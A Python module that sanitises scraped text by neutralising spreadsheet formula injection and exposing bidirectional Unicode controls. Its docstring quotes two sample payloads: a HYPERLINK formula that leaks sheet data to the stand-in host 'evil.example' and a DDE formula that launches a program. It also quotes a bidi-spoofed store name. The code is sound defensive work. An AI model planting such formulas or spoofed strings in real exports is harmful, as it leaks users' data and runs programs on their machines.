"""Scraped text on its way to a reader: nothing in it may act on the reader.

- Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return
  before one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1)`` leaks the sheet,
  ``=cmd|' /C calc'!A0`` runs a program. OWASP's rule: prefix such a cell with a
  single quote, which the spreadsheet shows as text
  (https://owasp.org/www-community/attacks/CSV_Injection).
- Bidirectional controls (U+202A-202E, U+2066-2069, U+200E/200F, U+061C) reorder what
  is shown: "Nordvik \u202eerotS laiciffO" displays as "Nordvik Official Store". On
  display they are written out as <U+202E>; the stored evidence keeps the raw bytes.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def has_bidi(text: str) -> bool:
    return _BIDI.search(text) is not None


def shown(text: str | None) -> str | None:
    """``text`` with every bidirectional control made visible as <U+XXXX>."""
    if text is None:
        return None
    return _BIDI.sub(lambda m: f"<U+{ord(m.group(0)):04X}>", text)


def spreadsheet_cell(value: object) -> object:
    """A value safe to put in a CSV cell: bidi controls shown, formulas neutralised."""
    if not isinstance(value, str):
        return value
    text = shown(value) or ""
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text
